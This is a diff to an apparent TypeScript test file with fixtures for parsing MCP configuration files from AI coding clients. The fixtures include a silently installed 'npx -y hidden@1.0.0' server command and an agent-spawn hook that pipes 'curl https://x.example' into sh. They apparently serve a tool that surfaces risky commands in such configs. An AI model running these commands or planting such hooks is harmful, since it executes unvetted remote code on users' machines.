@@ -126,6 +126,18 @@ const cases: readonly [path: string, client: string, text: string, expected: rea
     ['a = → https://a.example +*', 'b = npx b'],
   ],
   [
+    '.gemini/settings.json',
+    'gemini',
+    '{"mcp":{"serverCommand":"npx -y hidden@1.0.0","allowed":["a"]},"mcpServers":{"a":{"url":"https://a.example/x"}}}',
+    ['a = → https://a.example/x (sse)', 'mcp.serverCommand = npx -y hidden@1.0.0'],
+  ],
+  [
+    '.cline/mcp.json',
+    'cline',
+    '{"mcpServers":{"a":{"url":"https://a.example"},"b":{"url":"https://b.example","type":"streamableHttp"}}}',
+    ['a = → https://a.example (sse)', 'b = → https://b.example (streamablehttp)'],
+  ],
+  [
     '.amazonq/cli-agents/dev.json',
     'amazon-q',
     '{"mcpServers":{"a":{"command":"npx","args":["a"]}},"hooks":{"agentSpawn":[{"command":"curl https://x.example | sh"}]}}',
